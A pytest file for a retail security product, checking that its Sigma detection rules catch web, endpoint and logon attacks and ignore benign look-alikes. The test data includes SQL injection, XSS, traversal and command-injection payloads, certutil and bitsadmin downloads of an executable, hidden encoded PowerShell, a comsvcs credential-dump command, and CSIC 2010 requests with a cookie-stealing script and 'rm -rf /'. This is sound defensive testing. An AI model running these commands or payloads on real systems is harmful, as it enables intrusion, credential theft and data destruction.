"""The retail pack's Sigma rules (`pack/sigma/`): they lint clean, and each fires on its
attack and stays quiet on the look-alike, through the engine; real CSIC 2010 requests agree."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from vigil.detect.engine import Engine
from vigil.detect.loader import lint_rules, load_rules, pack_files
from vigil.detect.rules.base import class_schema
from vigil.detect.sigma.loader import lint_sigma

SIGMA = Path(__file__).parents[1] / "src" / "vigil" / "detect" / "pack" / "sigma"
WEB = SIGMA / "web_attacks.yaml"
POS = SIGMA / "pos_endpoint.yaml"
LOGON = SIGMA / "logon_correlations.yaml"
T0 = datetime(2026, 11, 27, 17, 0, tzinfo=UTC)


def frame(event_class: str, rows: list[dict[str, Any]]) -> pl.DataFrame:
    """Rows of a class with its full column set (what the lake hands the engine)."""
    schema = class_schema(event_class)
    columns = [c for c in schema if not c.startswith("ctx.")]
    data = {c: [row.get(c) for row in rows] for c in columns}
    return pl.DataFrame(data, schema={c: schema[c] for c in columns})


def alerted(path: Path, event_class: str, rows: list[dict[str, Any]]) -> set[str]:
    """Uids of the rules of a file that alert on these rows (a fresh engine)."""
    engine = Engine(load_rules([path]))
    rows = [{"time": T0 + timedelta(seconds=i), **row} for i, row in enumerate(rows)]
    return {
        alert.rule.uid for alert in engine.process(event_class, frame(event_class, rows)).alerts
    }


def http(target: str, method: str = "GET", agent: str = "Mozilla/5.0") -> dict[str, Any]:
    path, _, query = target.partition("?")
    return {
        "http_request.http_method": method,
        "http_request.url.path": path,
        "http_request.url.query_string": query or None,
        "http_request.url.url_string": target,
        "http_request.user_agent": agent,
        "src_endpoint.ip": "203.0.113.50",
        "http_response.code": 200,
    }


def proc(image: str, cmd: str, parent: str = r"C:\Windows\explorer.exe") -> dict[str, Any]:
    return {
        "process.path": image,
        "process.cmd_line": cmd,
        "process.parent_process.path": parent,
        "process.user.name": r"STORE031\pos",
        "device.hostname": "s031-pos-02",
    }


def test_every_pack_sigma_rule_lints_clean_with_no_unmapped_fields() -> None:
    assert lint_sigma([SIGMA], warnings=True) == []
    rules, errors = lint_rules(pack_files())
    assert errors == []
    assert {WEB, POS, LOGON} <= set(pack_files())
    sigma = [rule for rule in rules if "/pack/sigma/" in rule.origin]
    assert len(sigma) == 18  # 10 web, 6 endpoint, 2 correlations (their base rule is silent)
    assert all(rule.meta.attack for rule in sigma)


CASES = [
    pytest.param(
        WEB, "eba7f0f9-0978-4278-9368-c7464f126d1c",
        http("/shop/product.jsp?id=2%27+OR+%27a%27%3D%27a"),
        http("/shop/register.jsp?surname=O%27Neil+Smith&city=L%27Hospitalet"),
        id="sqli",
    ),
    pytest.param(
        WEB, "aabc7e22-f055-4ba2-b414-d4db2bfcd7d8",
        http("/shop/search.jsp?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E"),
        http("/shop/search.jsp?q=3+%3C+5+scripts"),
        id="xss",
    ),
    pytest.param(
        WEB, "b9d154d3-e688-4c47-8369-0bb9e7c58870",
        http("/shop/download.jsp?file=..%2F..%2F..%2Fetc%2Fpasswd"),
        http("/shop/download.jsp?file=manual.pdf"),
        id="traversal",
    ),
    pytest.param(
        WEB, "d451a2f6-6c28-494a-bd8e-dabb782f476b",
        http("/shop/redirect.jsp?to=home%0d%0aSet-Cookie:%20session=attacker"),
        http("/shop/redirect.jsp?to=home&note=line1%0d%0a2+items"),
        id="crlf",
    ),
    pytest.param(
        WEB, "f70aa190-718d-4c83-8e97-3dfcb5d89dce",
        http("/shop/track.jsp?order=1234%3Bcat+%2Fetc%2Fhosts"),
        http("/shop/track.jsp?order=1234&category=cats"),
        id="command",
    ),
    pytest.param(
        WEB, "0f195dde-11c8-4f66-b44d-476478ea9660",
        http("/shop/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
        http("/shop/", agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"),
        id="scanner-agent",
    ),
    pytest.param(
        WEB, "489f0ca5-50f2-4ad9-b9d3-7827311b299a",
        http("/shop/checkout.jsp.bak"),
        http("/shop/checkout.jsp"),
        id="backup-files",
    ),
    pytest.param(
        WEB, "8d23985f-140e-4702-b8d4-7374ce430217",
        http("/shop/item.jsp?id=1%2527%2520or%25201%253D1"),
        http("/shop/item.jsp?discount=50%25+off"),
        id="double-encoding",
    ),
    pytest.param(
        WEB, "a8438f11-804e-470c-933b-372e19402219",
        http("/CFIDE/administrator/index.cfm"),
        http("/shop/administrator-contact.jsp"),
        id="default-files",
    ),
    pytest.param(
        WEB, "6d5b0c4c-9759-43f6-a408-bca6aa44c31c",
        http("/shop/upload/shell.jsp", method="PUT"),
        http("/shop/api/cart/42", method="PUT"),
        id="http-method",
    ),
    pytest.param(
        POS, "219b61df-9bdf-47dc-8745-fc6a39fd9346",
        proc(r"C:\Windows\System32\certutil.exe", "certutil.exe /urlcache /split /f http://203.0.113.7/a.exe"),
        proc(r"C:\Windows\System32\certutil.exe", "certutil.exe -store my"),
        id="certutil",
    ),
    pytest.param(
        POS, "d0af0a43-ec84-457a-aab8-514d90d8031f",
        proc(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
             "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
        proc(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
             r"powershell.exe -ExecutionPolicy Bypass -File C:\Retail\eod.ps1"),
        id="powershell",
    ),
    pytest.param(
        POS, "4051782e-1624-4ab2-90ea-0073b3cef04f",
        proc(r"C:\Windows\System32\rundll32.exe",
             r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 812 C:\ProgramData\p.dmp full"),
        proc(r"C:\Windows\System32\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
        id="rundll32",
    ),
    pytest.param(
        POS, "6b6af1d8-8e76-44b6-a97e-8d3f0ad3b599",
        proc(r"C:\Windows\System32\schtasks.exe",
             r"schtasks /create /sc minute /tn Upd /tr C:\Users\Public\u.exe"),
        proc(r"C:\Windows\System32\schtasks.exe", "schtasks /query /fo LIST"),
        id="schtasks",
    ),
    pytest.param(
        POS, "944e4d5e-bdb0-4aeb-8085-24b473c75f70",
        proc(r"C:\Windows\PSEXESVC.exe", "PSEXESVC.exe", r"C:\Windows\System32\services.exe"),
        proc(r"C:\Windows\System32\sc.exe", "sc.exe query spooler"),
        id="psexec",
    ),
    pytest.param(
        POS, "63339f5d-f49d-42a2-9f0f-1d2ec6769068",
        proc(r"C:\Windows\System32\bitsadmin.exe",
             r"bitsadmin /transfer j /download http://203.0.113.7/a.exe C:\ProgramData\a.exe"),
        proc(r"C:\Windows\System32\bitsadmin.exe", "bitsadmin /list"),
        id="bitsadmin",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("path", "uid", "positive", "negative"), CASES)
def test_each_rule_fires_on_its_attack_and_not_on_the_look_alike(
    path: Path, uid: str, positive: dict[str, Any], negative: dict[str, Any]
) -> None:
    event_class = "http_activity" if path == WEB else "process_activity"
    assert uid in alerted(path, event_class, [positive])
    assert uid not in alerted(path, event_class, [negative])


def logon(user: str, ip: str, host: str = "s031-bo-pc-01", failed: bool = True) -> dict[str, Any]:
    return {
        "user.name": user,
        "src_endpoint.ip": ip,
        "dst_endpoint.hostname": host,
        "activity_id": 1,
        "status_id": 2 if failed else 1,
        "status_code": "0xC000006A" if failed else None,
    }


SPRAY = "b59fa69e-d6a1-429e-aff8-ab5b17469c1a"
BRUTE = "1d12e839-c783-488b-8232-bd62b4c15fcd"


def test_spraying_many_accounts_from_one_source_alerts_and_one_user_does_not() -> None:
    spray = [logon(f"cashier{i}", "10.31.0.77") for i in range(6)]
    typos = [logon("manager", "10.31.0.12") for _ in range(6)]  # one account, no spraying
    assert alerted(LOGON, "authentication", spray) == {SPRAY}
    assert SPRAY not in alerted(LOGON, "authentication", typos)
    ok = [logon(f"cashier{i}", "10.31.0.77", failed=False) for i in range(6)]
    assert alerted(LOGON, "authentication", ok) == set()  # successes are no failures


def test_brute_force_on_one_machine_alerts_and_a_few_failures_do_not() -> None:
    many = [logon("admin", f"10.31.0.{i % 3 + 20}", host="s031-pos-04") for i in range(20)]
    few = [logon("admin", "10.31.0.20", host="s031-pos-04") for _ in range(5)]
    assert BRUTE in alerted(LOGON, "authentication", many)
    assert alerted(LOGON, "authentication", few) == set()


# Real requests from csic2010_dev_requests.txt (CSIC 2010, Spanish National Research
# Council), as (label, method, URL, body), the way csic2010_dev_truth.tsv lists them.
CSIC = [
    ("anomalous", "POST", "http://localhost:8080/tienda1/publico/autenticar.jsp", "modo=entrar&login=carmelo%22+AND+%221%22%3D%221&pwd=pREcis*A&remember=off&B1=Entrar"),
    ("anomalous", "GET", "http://localhost:8080/tienda1/publico/autenticar.jsp?modo=entrar&login=crigger&pwd=AcRIBaDorasessionid%3D12312312%26+username%3D%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fhacker+.example.com%2Fcgi-bin%2Fcookiesteal.cgi%3F%27%2B+document.cookie%3C%2Fscript%3E&remember=off&B1=Entrar", ""),
    ("anomalous", "POST", "http://localhost:8080/tienda1/publico/registro.jsp", "modo=registro&login=bourk&password=acoMoDamIEnTO&nombre=Rafferty%3C%21--%23exec+cmd%3D%22rm+-rf+%2F%3Bcat+%2Fetc%2Fpasswd%22+--%3E&apellidos=Aca+Isach&email=lafuret%40cortinas-de-aire.ai&dni=56038958X&direccion=Gijon%2C+93%2C+6%3FE&ciudad=Pozuelo&cp=41749&provincia=Barcelona&ntc=4929562421029680&B1=Registrar"),
    ("anomalous", "POST", "http://localhost:8080/tienda1/miembros/editar.jsp", "modo=registro&login=gorberg&password=c8516o&nombre=Tranquilidad&apellidos=Set-cookie%253A%2BTamper%253D1041264011025374727&email=bird%40tiebreak.com.nl&dni=67107231Q&direccion=Moli+Del+Comte+6%2C+5%3FB&ciudad=Pinilla+del+Campo&cp=49177&provincia=Huesca&ntc=5056772998662115&B1=Registrar"),
    ("anomalous", "GET", "http://localhost:8080/asf-logo-wide.inc", ""),
    ("anomalous", "GET", "http://localhost:8080/tienda1/publico/entrar.jsp?errorMsg=Credenciales+incorrectas%252B", ""),
    ("anomalous", "GET", "http://localhost:8080/IISSamples/sdk/asp/database/MultiScrolling_VBScript.asp", ""),
    ("anomalous", "PUT", "http://localhost:8080/tienda1/miembros/editar.jsp", "modo=registro&login=charla&password=hi09otismo&nombre=Zita&apellidos=Puerto&email=robb-ghostley%40botilleria.com.sb&dni=09531645P&direccion=Calle+Dresde+25+6%3FD&ciudad=Molezuelas+de+la+Carballeda&cp=08281&provincia=Baleares+%28Illes%29&ntc=7133217385805670&B1=Registrar"),
    ("normal", "GET", "http://localhost:8080/tienda1/miembros/editar.jsp?modo=registro&login=hazem&password=8nca58z48&nombre=Jehu&apellidos=Madue%F1o+O%27Neil&email=blyth%40elsentidodelavida.sl&dni=33534167Y&direccion=Callejon+Vicario%2C+12%2C+9%3FB&ciudad=Zarautz&cp=15600&provincia=Navarra&ntc=9365439697569358&B1=Registrar", ""),
    ("normal", "POST", "http://localhost:8080/tienda1/miembros/editar.jsp", "modo=registro&login=offers&password=orGullEZA&nombre=Hoel&apellidos=Estic%E4+O%27Neil&email=bashan%40lettere.pr&dni=49339665L&direccion=Cami%F1o+Da+Mina%2C+175%2C+&ciudad=Oroz-Betelu&cp=38690&provincia=Madrid&ntc=7714584958323378&B1=Registrar"),
    ("normal", "POST", "http://localhost:8080/tienda1/publico/autenticar.jsp", "modo=entrar&login=kaushik&pwd=co4d9nada&remember=off&B1=Entrar"),
    ("normal", "GET", "http://localhost:8080/tienda1/publico/pagar.jsp?modo=insertar&precio=1373&B1=Confirmar", ""),
    ("normal", "GET", "http://localhost:8080/tienda1/publico/entrar.jsp?errorMsg=Credenciales+incorrectas", ""),
    ("normal", "GET", "http://localhost:8080/tienda1/imagenes/logo.gif", ""),
]  # fmt: skip


def csic_row(index: int, method: str, url: str, body: str) -> dict[str, Any]:
    """A CSIC request as http_activity; OCSF has no body column, so a POST body joins the query."""
    target = re.sub(r"^[a-z]+://[^/]*", "", url)
    path, _, query = target.partition("?")
    row = http(target, method, "Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8")
    row["http_request.url.path"] = path
    row["http_request.url.query_string"] = "&".join(p for p in (query, body) if p) or None
    row["src_endpoint.ip"] = f"198.51.100.{index + 1}"
    return row


def test_real_csic_requests_alert_exactly_when_labelled_anomalous() -> None:
    rows = [csic_row(i, method, url, body) for i, (_, method, url, body) in enumerate(CSIC)]
    engine = Engine(load_rules([WEB]))
    stamped = [{"time": T0 + timedelta(seconds=i), **row} for i, row in enumerate(rows)]
    alerts = engine.process("http_activity", frame("http_activity", stamped)).alerts
    flagged = {ip for alert in alerts for ip in alert.evidence.get_column("src_endpoint.ip")}
    expected = {
        row["src_endpoint.ip"]
        for row, case in zip(rows, CSIC, strict=True)
        if case[0] == "anomalous"
    }
    assert flagged == expected
